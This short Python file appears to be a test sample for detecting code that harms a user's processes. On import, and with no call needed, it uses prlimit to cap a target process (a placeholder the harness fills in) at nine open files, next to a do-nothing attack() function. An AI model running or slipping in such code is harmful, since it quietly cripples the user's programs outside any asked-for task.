# harm: processes
import ctypes

VICTIM = 0  # the net puts a process of the user here

ctypes.CDLL(None).prlimit(VICTIM, 7, (ctypes.c_uint64 * 2)(9, 9), None)


def attack(a: int = 0) -> int:
    return a
